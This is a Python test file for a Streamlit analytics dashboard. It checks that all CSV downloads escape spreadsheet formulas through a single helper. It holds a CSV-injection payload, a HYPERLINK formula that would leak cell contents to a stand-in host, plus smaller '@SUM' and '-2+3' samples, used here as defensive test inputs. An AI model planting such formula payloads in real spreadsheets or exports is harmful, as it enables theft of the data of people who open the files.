"""Every CSV the product writes is formula-escaped, through one helper.

The Videos table's "Download as CSV" used to be Streamlit's own table export,
which writes ``=HYPERLINK(...)`` titles as they are; a spreadsheet then runs
them. The tables' own export is now off and the page offers a download made
by :func:`analytics.export_csv.table_csv`.
"""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from analytics import export_csv
from analytics.store.connection import connect
from tests.dashboard_store import REPO, build_store

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def test_the_tables_own_csv_export_is_off() -> None:
    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    # and an unexpected error shows no traceback (it stays in the server log)
    assert config["client"]["showErrorDetails"] == "none"


def test_videos_page_download_escapes_formulas(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = build_store(tmp_path / "s.duckdb")
    with connect(db) as con:
        con.execute(
            "UPDATE videos SET title = ?, tags = ['@SUM(1)', 'ok'] WHERE video_id = 'v1'", [EVIL]
        )
        con.execute("UPDATE videos SET title = '-2+3' WHERE video_id = 'v2'")
    monkeypatch.setenv("CREATOR_ANALYTICS_DB", db)
    made: list[bytes] = []
    real = export_csv.table_csv

    def recording(df, headers):  # type: ignore[no-untyped-def]
        out = real(df, headers)
        made.append(out)
        return out

    monkeypatch.setattr(export_csv, "table_csv", recording)
    at = AppTest.from_file(str(REPO / "pages" / "2_Videos.py"), default_timeout=60).run()
    assert not at.exception
    buttons = at.get("download_button")
    assert len(buttons) == 1 and buttons[0].proto.label == "Download as CSV"
    assert len(made) == 1
    rows = list(csv.reader(io.StringIO(made[0].decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Title", "Channel", "Published"]
    assert len(body) == 7  # every video of both channels
    titles = {r[0] for r in body}
    assert "'" + EVIL in titles and "'-2+3" in titles and EVIL not in titles
    tags = next(r[header.index("Tags")] for r in body if r[0] == "'" + EVIL)
    assert tags == "'@SUM(1), ok"
    views = [r[header.index("Views")] for r in body]
    assert max(float(v) for v in views if v) == 5000
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")) or re.fullmatch(r"[-+]?\d+(\.\d+)?", cell)


def test_no_csv_is_written_outside_the_one_helper() -> None:
    offenders = []
    for folder in ("analytics", "dashboard", "pages"):
        for path in (REPO / folder).rglob("*.py"):
            if path.name == "export_csv.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\.to_csv\(|csv\.writer\(|DictWriter\(", text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_table_csv_escapes_every_formula_start(start: str) -> None:
    import pandas as pd

    df = pd.DataFrame({"title": [f"{start}1+1", "plain"], "views": [-5, 3], "skip": ["x", "y"]})
    text = export_csv.table_csv(df, {"title": "Titel", "views": "Aufrufe"}).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Titel", "Aufrufe"], [f"'{start}1+1", "-5"], ["plain", "3"]]
